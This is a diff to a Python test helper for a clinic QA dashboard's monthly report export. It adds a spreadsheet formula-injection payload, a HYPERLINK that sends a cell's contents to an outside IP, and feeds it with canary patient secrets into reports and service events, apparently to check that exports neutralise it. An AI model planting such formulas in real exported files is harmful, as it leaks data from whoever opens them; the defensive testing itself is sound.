@@ -7,7 +7,7 @@ import io
 import json
 import subprocess
 import zipfile
-from collections.abc import Mapping, Sequence
+from collections.abc import Mapping
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -18,15 +18,19 @@ from sqlalchemy import insert
 from dashboards.reports.month_package import write_package
 from qa_daemon.model import AnalysisReport, Report, Value
 from qa_daemon.pipeline import judge
+from qa_daemon.store import service_events
 from qa_daemon.store.ledger import Arrival, Fingerprint
 from qa_daemon.store.months import Month
 from qa_daemon.store.results import Provenance
 from qa_daemon.store.schema import notifications
+from qa_daemon.store.service_events import EventKind, ServiceEvent
 from qa_daemon.trends.follower import TrendFollower
-from tests.dashboards.clinic import PATIENT, Clinic
+from tests.dashboards.clinic import HOSTILE, PATIENT, Clinic
 from tests.servers import installed
 
+FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1)'
 BERLIN = ZoneInfo("Europe/Berlin")
+NOW = datetime(2026, 3, 2, 8, 30, tzinfo=UTC)
 SECRETS = {
     "identity": PATIENT,
     "name": "Erika CANARYNAME",
@@ -153,11 +157,28 @@ def fill_february(clinic: MonthClinic) -> dict[str, int]:
     ids["unreadable"] = clinic.deliver("TB2", datetime(2026, 2, 3, 12, tzinfo=BERLIN), unread)
     strange = leaf_report(at, 0.03)
     ids["strange"] = clinic.deliver(SECRETS["serial"], at, strange)
+    _say_hostile_things(clinic)
     clinic.tell(ids["TB1-9-1"], "ACTION TB1: MLC", "Physicist A by mailto", "2026-02-10T07:16:00Z")
     clinic.tell(ids["TB1-9-2"], "Cleared TB1: MLC", "Physicist B by ntfy", "2026-02-10T08:16:00Z")
     clinic.tell(ids["old"], "ACTION TB1: MLC", "Physicist A by mailto", "2026-02-12T17:01:00Z")
     clinic.tell(ids["unanswered"], "INVALID TB1: Axes", None, None)
     return ids
+
+
+def _say_hostile_things(clinic: MonthClinic) -> None:
+    """Words wherever somebody could have typed them."""
+    at = datetime(2026, 2, 20, 9, tzinfo=BERLIN)
+    clinic.deliver(HOSTILE, at, leaf_report(at, 0.6, place=FORMULA, energy="+6 MV"))
+    said = f"{FORMULA} of {SECRETS['identity'].lower()} and {SECRETS['name']}"
+    at_ns = service_events.instant_of(at)
+    events = [
+        ServiceEvent("TB1", EventKind.PART, said, at_ns),
+        ServiceEvent("TB2", EventKind.OTHER, "#panic() *bold*", at_ns),
+    ]
+    # The clock was put right afterwards: acts are not in order of time.
+    now, clinic.clinic.now = clinic.clinic.now, at
+    service_events.enter(clinic.store, events, "Physicist A")
+    clinic.clinic.now = now
 
 
 def read_csv(path: Path) -> list[dict[str, str]]:
@@ -185,12 +206,3 @@ def every_text(files: Mapping[str, Path]) -> str:
     pages = subprocess.run([program, str(files["pdf"]), "-"], capture_output=True, check=True)
     said.append(pages.stdout.decode().replace("\u200b", ""))
     return "\n".join(said)
-
-
-def days_between(first: datetime, last: datetime) -> Sequence[str]:
-    """ISO days, both ends in."""
-    count = (last.date() - first.date()).days + 1
-    return [(first.date() + timedelta(days=k)).isoformat() for k in range(count)]
-
-
-NOW = datetime(2026, 3, 2, 8, 30, tzinfo=UTC)
